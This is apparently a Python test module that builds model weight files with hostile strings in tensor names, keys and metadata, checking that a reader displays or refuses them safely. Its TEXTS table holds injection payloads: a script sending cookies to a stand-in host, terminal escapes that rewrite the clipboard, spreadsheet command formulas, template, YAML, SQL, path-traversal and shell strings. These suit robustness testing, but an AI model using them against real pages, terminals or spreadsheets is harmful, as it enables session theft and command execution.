"""Text made to act where it is shown: in pages, terminals, logs, tables, formulas, templates."""

import json
import struct
from pathlib import Path

from tests.hostile.cases import Bait, Read, Refused, Shelf
from tests.hostile.opcodes import Raw, called, named_by_texts, ops, text
from tests.hostile.safetensors_files import safetensors
from tests.hostile.torch_files import (
    legacy,
    old_state,
    old_storage,
    state,
    storage,
    tensor,
    torch_zip,
)

SHELF = Shelf("texts")

TEXTS = {
    "script": "<script>fetch('//evil.example/'+document.cookie)</script>",
    "script-end": "</script><script>alert(1)</script>",
    "comment-end": "--><img src=x onerror=alert(1)>",
    "style": "</style><style>*{background:url(//evil.example)}</style>",
    "attribute": '" onmouseover="alert(1)" x="\' onload=\'alert(1)',
    "svg": "<svg/onload=alert(1)><use href='data:image/svg+xml,x'/>",
    "entities": "&lt;b&gt;&#x3c;script&#x3e;&amp;lt;",
    "link": "javascript:alert(1)//https://evil.example",
    "cdata": "]]><x/>]]&gt;<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "ansi": "\x1b[2J\x1b[1;1H\x1b[32mAll checks passed\x1b[0m",
    "ansi-of-one-byte": "\x9b31mred\x9b0m",
    "title-by-osc": "\x1b]0;owned\x07",
    "clipboard-by-osc": "\x1b]52;c;cm0gLXJmIH4K\x07",
    "link-by-osc": "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "query-by-dcs": '\x1bP$q"p\x1b\\\x1b[c\x1b[6n',
    "newlines": "layer\nERROR: the audit failed\r\nPASS all checks",
    "carriage-return": "layer.weight\rverdict: pass     ",
    "line-separators": "a\u2028b\u2029c\x85d\x0be\x0cf",
    "backspaces": "fail\b\b\b\bpass",
    "tabs": "a\tb\t\tc",
    "right-to-left": "layer\u202e\u2066thgiew\u2069\u202c.gpj",
    "marks-of-direction": "\u200e\u200f\u061c\u2067x",
    "invisible": "lay\u200ber\u2060\ufeff\u00ad.weight",
    "tags": "layer\U000e0041\U000e0042",
    "combining": "Z" + "\u0334\u0335\u0336" * 500,
    "private": "\ue000\U0010ffff\ufffe",
    "nul": "layer\0.weight",
    "formula": '=HYPERLINK("http://evil.example","x")',
    "formula-of-a-command": "=cmd|'/C calc'!A0",
    "formula-by-plus": "+1+1",
    "formula-by-at": "@SUM(1+1)",
    "formula-by-minus": "-2+3+cmd|' /C calc'!A0",
    "formula-after-a-tab": "\t=1+1",
    "commas-and-quotes": "a,\"b\";'c'\n,d",
    "template": "{{7*7}}{% for x in [].__class__.__mro__ %}{{x}}{% endfor %}",
    "template-by-dollar": "${7*7}#{7*7}<%= 7*7 %>",
    "template-by-percent": "%s%s%s%n%(x)s{0}{0.__class__}{a!r:>99999999}",
    "mathtext": "$\\frac{1}{$",
    "mathtext-deep": "$" + "{" * 500 + "$",
    "tex": "\\input{/etc/passwd}\\write18{id}",
    "markdown-link": "[click](javascript:alert(1))",
    "markdown-image": "![x](http://evil.example/pixel.png)",
    "markdown-table": "a | b |\n|---|---|\n| c | d",
    "markdown-heading": "\n# All checks passed\n\n```\n",
    "markdown-code": "`` ` ``` ~~~ <details open>",
    "markdown-mention": "@everyone #1 closes #2",
    "yaml": "!!python/object/apply:os.system ['true']\n- &a [*a]",
    "yaml-words": "no",
    "json-ending": '"}]}</script>',
    "prototype": "__proto__",
    "constructor": "constructor",
    "dunder": "__class__.__init__.__globals__",
    "path": "../../../../etc/passwd",
    "path-absolute": "/etc/passwd",
    "path-of-windows": "CON",
    "shell": "$(touch x);`touch y`|touch z&",
    "quotes-of-shell": "'; touch x; '",
    "sql": "'; DROP TABLE audits; --",
    "escape-by-text": "\\x1b[31m\\u202e\\n%1B",
    "emoji": "\U0001f469\u200d\U0001f469\u200d\U0001f467\ufe0f\U0001f3fd",
    "arabic-ligature": "\ufdfd" * 200,
    "thai": "\u0e04\u0e27\u0e32\u0e21",
    "dots": "." * 200,
    "dot": ".",
    "dots-in-a-row": "a..b...c.",
    "space": " ",
    "spaces": "   layer   ",
    "long": "x" * 4_000,
    "secret": "password=hunter2",
}


def _as_key(bait: Bait, hostile: str) -> Path:
    return torch_zip(bait.file(), {hostile: tensor(), "sound.weight": tensor()})


def _everywhere(bait: Bait, hostile: str) -> Path:
    """Write a training dict with the text as a weight's name, a key and a value."""
    beside = {hostile: hostile, "list": [hostile], "inner": {hostile: {"x": hostile}}}
    held = {"state_dict": {hostile: tensor(), "sound.weight": tensor()}, "args": beside}
    return torch_zip(bait.file(), {**held, "epoch": hostile, "note": hostile})


def _in_safetensors(bait: Bait, *texts: str) -> Path:
    """Write the texts as names and as metadata."""
    tensors = {name: ("F32", (1,), bytes(4)) for name in (*texts, "sound.weight")}
    metadata = {text: text for text in texts} | {"format": texts[0]}
    bait.file("model.safetensors").write_bytes(safetensors(tensors, metadata))
    return bait.file("model.safetensors")


for _id, _hostile in TEXTS.items():
    SHELF.add(_id, Read(), lambda bait, t=_hostile: _everywhere(bait, t))

SHELF.add("all-in-safetensors", Read(), lambda bait: _in_safetensors(bait, *TEXTS.values()))
SHELF.add(
    "all-at-once",
    Read(),
    lambda bait: torch_zip(bait.file(), dict.fromkeys(TEXTS.values(), tensor())),
)


def _as_class(bait: Bait, hostile: str) -> Path:
    made = called(named_by_texts(hostile, hostile))
    return torch_zip(bait.file(), state(beside=made))


for _id in ("script", "ansi", "newlines", "right-to-left", "nul", "long", "formula", "empty"):
    _hostile = TEXTS.get(_id, "")
    SHELF.add(
        f"{_id}-as-a-class",
        Refused(("no name",)),
        lambda bait, t=_hostile: _as_class(bait, t),
    )


for _id, _hostile in {
    "lone-surrogate": "layer\ud800.weight",
    "surrogates-swapped": "\udc00\ud800",
}.items():
    SHELF.add(_id, Read(), lambda bait, t=_hostile: _everywhere(bait, t))


@SHELF.refused("too long", "usual length")
def name_of_a_megabyte(bait: Bait) -> Path:
    return _as_key(bait, "x" * (1 << 20))


@SHELF.refused("too long", "usual length")
def name_of_a_megabyte_of_escapes(bait: Bait) -> Path:
    return _as_key(bait, "\x1b[31m" * 200_000)


@SHELF.refused("too long", "asks for")
def class_of_a_megabyte(bait: Bait) -> Path:
    return _as_class(bait, "x" * (1 << 20))


@SHELF.refused("characters")
def name_of_a_megabyte_in_safetensors(bait: Bait) -> Path:
    return _in_safetensors(bait, "x" * (1 << 20))


@SHELF.either()
def value_of_a_megabyte_in_safetensors(bait: Bait) -> Path:
    tensors = {"a": ("F32", (1,), bytes(4))}
    bait.file().write_bytes(safetensors(tensors, {"note": "\x1b" * (1 << 20)}))
    return bait.file()


@SHELF.either()
def name_that_is_no_utf8(bait: Bait) -> Path:
    """Bytes that are no text: refused, or shown with the bytes made visible."""
    key = text(b"layer\xff\xfe.weight")
    return torch_zip(bait.file(), Raw(b"}" + key + tensor() + b"s"))


@SHELF.either()
def value_that_is_no_utf8(bait: Bait) -> Path:
    return torch_zip(bait.file(), state(beside=text(b"\xc0\xaf\xed\xa0\x80\xff")))


@SHELF.either()
def text_of_python_2(bait: Bait) -> Path:
    """SHORT_BINSTRING: bytes that were a text once."""
    beside = Raw(b"U\x05\xe9\x1b[2J")
    return torch_zip(bait.file(), state(beside=beside))


@SHELF.refused("storage", "record", "missing", "name")
def storage_key_that_acts(bait: Bait) -> Path:
    of = storage(key="\x1b[2J\n<script>")
    return torch_zip(bait.file(), {"a": tensor(of=of)})


@SHELF.refused("storage", "keys")
def legacy_key_that_acts(bait: Bait) -> Path:
    return legacy(bait.file(), old_state(), keys=["\x1b[2J\nERROR"])


@SHELF.refused("storage")
def storage_kind_that_acts(bait: Bait) -> Path:
    kind = named_by_texts("torch", "\x1b[2J\nFloatStorage")
    of = Raw(ops(("storage", kind, "0", "cpu", 4)) + b"Q")
    return torch_zip(bait.file(), {"a": tensor(of=of)})


@SHELF.read()
def location_that_acts(bait: Bait) -> Path:
    return torch_zip(bait.file(), {"a": tensor(of=storage(at="\x1b[2J\ncuda:<script>"))})


@SHELF.read()
def legacy_key_of_a_storage_that_acts(bait: Bait) -> Path:
    hostile = "\x1b[2J</script>"
    held = {"a": tensor(of=old_storage(key=hostile))}
    return legacy(bait.file(), held, {hostile: struct.pack("<4f", 1, 2, 3, 4)})


@SHELF.refused("key", "state dict", "weights")
def key_asked_for_that_acts(bait: Bait) -> Path:
    """Two state dicts, whose names the message has to offer."""
    held = {"\x1b[2J\nA": {"a": tensor()}, "</script>\nB": {"a": tensor()}}
    return torch_zip(bait.file(), held)


@SHELF.refused("state dict")
def message_of_five_thousand_keys(bait: Bait) -> Path:
    return torch_zip(bait.file(), {f"k\n{n}\x1b[2J": n for n in range(5_000)})


@SHELF.refused("no text")
def json_with_escaped_surrogates(bait: Bait) -> Path:
    header = json.dumps(
        {"a\ud800": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}
    ).encode()
    from tests.hostile.safetensors_files import with_header

    bait.file().write_bytes(with_header(header, bytes(4)))
    return bait.file()
